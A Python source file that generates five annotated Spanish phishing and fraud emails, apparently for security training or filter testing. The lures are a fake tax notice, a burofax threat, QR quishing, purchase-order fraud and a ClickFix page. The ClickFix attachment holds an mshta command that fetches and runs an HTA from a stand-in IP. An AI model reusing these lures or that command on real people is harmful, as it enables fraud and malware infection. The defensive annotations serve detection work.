"""Attack messages, Spanish (5)."""
import finance as fin
import qr
import systems as sy
from common import M, S, C
from content import (alt, plain, mixed, branded_alt, pdf_att, html_att)
from mime import Text, Multi

F, L = "attack", "es"
CIF_EGI = fin.es_cif("B", "4621387")

# ---------------------------------------------------------------- 27 AEAT notification, Dropbox-hosted ZIP
_u27 = "https://www.dropbox.com/scl/fi/k2x9q0v7ma3w1/Notificacion_AEAT_R-3T-2026-46-118732.zip?rlkey=9fz2kq7mx1c8w0p4t6yv3b5nd&st=0r8u2kqe&dl=1"
M(F, L, "aeat-notificacion-requerimiento-dropbox",
  ("Agencia Tributaria", "notificaciones@agenciatributaria-sede.es"), [S("fernandez")],
  "Notificación electrónica pendiente - Requerimiento de información (Modelo 303, 3T 2026)", "2026-11-03 09:26:14",
  sy.mailgun("mg.agenciatributaria-sede.es", ip="69.72.%d.%d" % (41, 118), zone="eu"),
  alt("""Estimado contribuyente:

Le comunicamos que tiene a su disposición una notificación en relación con el siguiente procedimiento:

Titular: EXAMPLE GROUP IBERICA SL - NIF %s
Procedimiento: Requerimiento de información - IVA, Modelo 303, tercer trimestre 2026
Referencia: R-3T-2026-46-118732

Dispone de un plazo de 10 días hábiles para acceder al contenido de la notificación. Transcurrido dicho plazo sin que se acceda a su contenido, la notificación se entenderá practicada de acuerdo con el artículo 43 de la Ley 39/2015.

Puede descargar la notificación y la documentación adjunta en el siguiente enlace:
[[Descargar notificación (R-3T-2026-46-118732)|%s]]

Agencia Estatal de Administración Tributaria
Este mensaje ha sido generado automáticamente. Por favor, no responda al mismo.
""" % (CIF_EGI, _u27), "utf-8", "qp", "plainhtml", pstyle="paren"),
  what="Agencia Tributaria look-alike: 'electronic notification pending – VAT information request', download link to a ZIP on Dropbox.",
  why="AEAT notifications are only available in the Sede electrónica/DEHú after identification and never as a ZIP download; look-alike sender via Mailgun; abuse of a genuine file-sharing service (Dropbox) to host the malware archive – the typical delivery of Spanish banking trojans; 10-day 'deemed notified' pressure.")

# ---------------------------------------------------------------- 28 fake lawyer / burofax
_u28 = "https://burofax-certificado.online/ver/2026-11-4471?dest=javier.munoz%40example.com"
M(F, L, "burofax-requerimiento-abogados",
  ("Burofax Online | Martín & Asociados Abogados", "administracion@reformasbenlloch.com"), [S("munoz")],
  "Requerimiento extrajudicial de pago - Expte. 2026/11-4471 - Example Group Ibérica S.L.", "2026-11-25 12:33:58",
  sy.m365(srv="PAXP193MB2219", region="EURP193", out=("EUR04-DB3-obe.outbound.protection.outlook.com", "mail-db3eur04on2104.outbound.protection.outlook.com", "40.107.6.104"), lang="es-ES", zone="eu"),
  alt("""Muy Sr. nuestro:

Por medio del presente, y en nombre y representación de nuestro cliente, le comunicamos que se ha emitido un requerimiento extrajudicial de pago dirigido a EXAMPLE GROUP IBÉRICA S.L. por importe de 18.350,42 €, correspondiente a facturas impagadas por suministro de material y servicios de transporte.

El burofax certificado con acuse de recibo y la documentación acreditativa de la deuda se encuentran disponibles para su consulta:

[[Consultar burofax certificado|%s]]

Le concedemos un plazo improrrogable de 72 horas desde la recepción del presente para regularizar la deuda o presentar alegaciones. Transcurrido dicho plazo sin respuesta, procederemos a interponer la correspondiente demanda de juicio monitorio, con expresa imposición de costas e intereses de demora.

Atentamente,

Departamento Jurídico
Martín & Asociados Abogados
C/ Colón 42, 46004 Valencia
""" % _u28, "windows-1252", "qp", "outlook", lang="ES"),
  what="Fake lawyer / burofax: 'extrajudicial payment demand of EUR 18,350.42, view the certified burofax' with a 72-hour deadline, sent from a compromised construction company's Microsoft 365 mailbox.",
  why="No creditor named, no invoice numbers; a real burofax arrives on paper via Correos; the mailbox belongs to an unrelated renovation firm (compromised M365 tenant) while the display name claims a law firm; link to a burofax look-alike site that asks for login or delivers malware; legal threat and short deadline.")

# ---------------------------------------------------------------- 29 VERI*FACTU quishing in PDF
_u29 = "https://aeat-verifactu-registro.es/alta/empresa?nif=%s&exp=VF-2026-118274" % CIF_EGI
M(F, L, "verifactu-alta-obligatoria-qr-pdf",
  ("Agencia Tributaria - VERI*FACTU", "verifactu@aeat-verifactu.es"), [S("fernandez")],
  "VERI*FACTU: alta obligatoria de su sistema de facturación antes del 31/12/2026", "2026-12-01 10:02:47",
  sy.vps_postfix("mail.aeat-verifactu.es", "unknown", "146.190.21.87", ua="thunderbird", lang="es-ES"),
  mixed(alt("""Estimado/a contribuyente:

Le remitimos adjunta la comunicación relativa a la adaptación de su sistema informático de facturación al Reglamento aprobado por el Real Decreto 1007/2023 (VERI*FACTU).

Según nuestros registros, su entidad no ha completado el alta del sistema de facturación. Para completarla, escanee el código QR del documento adjunto con su teléfono móvil e identifíquese con certificado digital o Cl@ve.

Atentamente,
Agencia Estatal de Administración Tributaria
Departamento de Gestión Tributaria
""", "iso-8859-15", "qp", "tb", pstyle="paren"),
        pdf_att("Comunicacion_VERIFACTU_%s.pdf" % CIF_EGI, [
            ("title", "Agencia Tributaria"),
            ("small", "Departamento de Gestión Tributaria · Sede electrónica"),
            ("gap", 10),
            ("h", "Comunicación: alta de sistema informático de facturación (VERI*FACTU)"),
            ("p", "Titular: EXAMPLE GROUP IBERICA SL   NIF: %s   Expediente: VF-2026-118274" % CIF_EGI),
            ("p", "De acuerdo con el Real Decreto 1007/2023, todos los empresarios deberán utilizar sistemas informáticos de facturación adaptados. Su entidad no consta dada de alta. Debe completar el alta antes del 31/12/2026; en caso contrario podrá iniciarse un procedimiento sancionador (art. 201 bis LGT, multa de hasta 50.000 euros por ejercicio)."),
            ("h", "Complete el alta escaneando este código con su móvil:"),
            ("png", qr.qr_png(_u29, 4), 150),
            ("small", "Código seguro de verificación: VF7Q-2K9M-41XZ-88TP"),
        ], {"Producer": "iText® 7.2.5 ©2000-2023 iText Group NV", "Title": "Comunicación VERI*FACTU"})),
  notes="QR code (PNG image inside the PDF) decodes to " + _u29,
  what="Quishing in a PDF: 'Agencia Tributaria' says the company's invoicing system must be registered for VERI*FACTU before 31/12; the QR code in the PDF leads to a look-alike 'alta' page.",
  why="VERI*FACTU has no registration ('alta') procedure for users; look-alike domain on a DigitalOcean droplet without rDNS; the only link is a QR code inside the PDF (escapes URL rewriting, moves the victim to a phone); threat of a EUR 50,000 fine. Compare business/30 (genuine software-vendor note on VERI*FACTU).")

# ---------------------------------------------------------------- 30 purchase-order fraud impersonating a customer
M(F, L, "pedido-fraude-suplantacion-maderas-turia",
  ("Carmen Ruiz - Maderas del Turia", "c.ruiz@maderasdelturia.com"), [S("munoz")],
  "Pedido urgente - 3 camiones abeto/pino - entrega Zaragoza", "2026-12-02 08:47:05",
  sy.zoho(ip="136.143.169.51", user_ip="88.26.201.74"),
  alt("""Buenos días Javier:

Te escribo desde mi nueva dirección porque estamos migrando el correo de la empresa; la antigua dejará de funcionar a final de mes.

Necesitamos con urgencia para un cliente de obra pública en Aragón:

- 2 camiones de abeto KVH C24, 60x120, 80x160 y 100x200 mm, largos de 13 m
- 1 camión de pino tratado autoclave clase 4, 45x145 mm

La entrega sería en nuestro nuevo almacén logístico de PLAZA (Zaragoza), Calle Bari 21, nave 14, la próxima semana si es posible. Condiciones de pago como siempre, 60 días fecha factura.

Por favor, mándame la proforma a esta dirección y confírmame fechas de carga. Si necesitas hablar, mi móvil nuevo es el 611 48 27 93, el de siempre lo tengo estropeado.

Un saludo,
Carmen Ruiz
Departamento de Compras
Maderas del Turia S.L.
""", "utf-8", "qp", "plainhtml", pstyle="paren"),
  what="Purchase-order fraud: look-alike of the customer Maderas del Turia (.com instead of .es) orders three trucks of timber on 60-day credit for delivery to a 'new warehouse' in Zaragoza.",
  why="Domain maderasdelturia.com (Zoho Mail) impersonates the real buyer c.ruiz@maderasdelturia.es; new address, new phone, new delivery location far from the customer's site, urgency and usual credit terms – goods would be collected and never paid. Compare business/28 (genuine order).")

# ---------------------------------------------------------------- 31 ClickFix HTML attachment, courier/customs lure
_html31 = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>SEUR - Documento DUA 7612043389</title></head>
<body style="margin:0;font-family:Arial,sans-serif;background:#f5f5f5">
<div style="background:#0a1e46;color:#fff;padding:14px 24px;font-size:20px;font-weight:bold">SEUR &middot; Aduanas</div>
<div style="max-width:520px;margin:50px auto;background:#fff;border:1px solid #ddd;padding:30px">
<p style="font-size:18px;margin-top:0"><b>Verificación de seguridad</b></p>
<p>Para proteger la documentación aduanera, confirme que no es un robot antes de visualizar el DUA del envío <b>76 1204 3389</b>.</p>
<div style="border:1px solid #ccc;padding:14px;background:#fafafa">
<p style="margin:0 0 8px 0"><b>Pasos de verificación:</b></p>
<ol style="margin:0;padding-left:20px">
<li>Pulse la tecla <b>Windows + R</b></li>
<li>Copie el código de verificación que aparece abajo y péguelo en la ventana (<b>Ctrl + V</b>)</li>
<li>Pulse <b>Intro</b> para completar la verificación</li>
</ol>
<p style="margin:12px 0 4px 0;font-size:12px;color:#555">Código de verificación:</p>
<input type="text" readonly style="width:100%;font-family:monospace;font-size:12px;padding:6px" value="mshta http://203.0.113.47/seur/dua7612.hta # Verificacion reCAPTCHA ID 7612043389">
</div>
<p style="font-size:11px;color:#888;margin-top:20px">reCAPTCHA &middot; Privacidad - Condiciones</p>
</div></body></html>
"""
M(F, L, "seur-aduanas-clickfix-html",
  ("SEUR Aduanas", "aduanas@seur-envios-es.com"), [S("fernandez")],
  "Envío 76 1204 3389 retenido en aduanas - DUA pendiente de validación", "2026-10-28 16:19:36",
  sy.exim_host("srv-cpanel14.webempresa.eu", "185.47.245.114", "", client="php", local=True, cpanel=True, zone="eu", exim="4.98.1"),
  mixed(alt("""Estimado cliente:

Su envío internacional 76 1204 3389 (origen: Rosenheim, DE - 2 bultos, 61 kg) se encuentra retenido en la aduana de Valencia a la espera de la validación del Documento Único Administrativo (DUA).

Adjuntamos el DUA para su revisión. Si no se valida en un plazo de 48 horas, el envío será devuelto al remitente y se aplicarán gastos de almacenaje.

Atentamente,
SEUR - Departamento de Aduanas
""", "utf-8", "8bit", "plainhtml", pstyle="paren"),
        html_att("DUA_7612043389.html", _html31)),
  mail_from="seurdua@srv-cpanel14.webempresa.eu",
  what="ClickFix: courier/customs lure (SEUR, parcel held at customs) with an HTML 'DUA' that shows a fake reCAPTCHA telling the user to press Win+R, paste a 'verification code' and press Enter.",
  why="The 'code' is an mshta command that would download and run an HTA from a raw IP (here a non-routable TEST-NET address, no script in the file); classic ClickFix social engineering that makes the user execute the malware; look-alike SEUR domain sent by a PHP script on compromised shared hosting; 48-hour return threat.")
